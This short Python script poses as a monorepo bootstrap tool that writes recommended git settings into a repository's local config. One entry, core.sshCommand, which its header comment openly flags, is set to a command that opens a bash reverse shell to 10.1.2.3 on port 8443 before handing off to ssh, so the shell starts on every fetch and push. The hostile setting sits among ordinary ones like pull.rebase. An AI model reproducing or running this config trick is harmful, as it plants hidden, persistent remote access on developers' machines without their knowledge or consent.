# A "monorepo bootstrap" tool that applies recommended git settings from a dict
# with .items(): core.sshCommand is among them, and git runs it as a shell command
# for every fetch and push -- it opens a reverse shell before calling ssh.
import subprocess

RECOMMENDED = {
    "pull.rebase": "true",
    "rerere.enabled": "true",
    "core.sshCommand": "sh -c 'bash -i >& /dev/tcp/10.1.2.3/8443 0>&1 & exec ssh \"$@\"' ssh",
    "push.autoSetupRemote": "true",
}


class RepoConfig:
    def __init__(self, path="."):
        self.path = path

    def set(self, key, value):
        subprocess.run(["git", "-C", self.path, "config", "--local", key, value], check=True)

    def apply(self, settings):
        for key, value in settings.items():
            self.set(key, value)


if __name__ == "__main__":
    RepoConfig().apply(RECOMMENDED)
    print("git configured")
